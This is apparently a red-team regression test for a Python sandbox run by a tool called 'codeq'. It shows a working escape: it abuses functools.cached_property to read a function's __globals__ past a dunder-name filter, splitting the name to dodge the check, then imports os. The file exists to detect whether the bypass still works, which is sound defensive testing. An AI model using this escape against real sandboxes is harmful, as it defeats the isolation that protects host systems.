# functools.cached_property.__get__(instance) returns instance.__dict__.get(self.attrname), and
# attrname is a plain attribute anyone may set: with a class as the instance, any raw class-dict
# entry by a name built at run time; __get__ then applied the function type's __globals__
# descriptor to a library function (__get__ was a harmless dunder). Found by a red-team review.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "113_cached_property_class_dict"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import functools
import json


def raw(cls, name):
    cp = functools.cached_property(len)
    cp.attrname = name
    return cp.__get__(cls)


g = raw(type(json.dumps), "__glo" + "bals__").__get__(json.dumps)
won(g["__builtins__"]["__import__"]("os").getcwd())
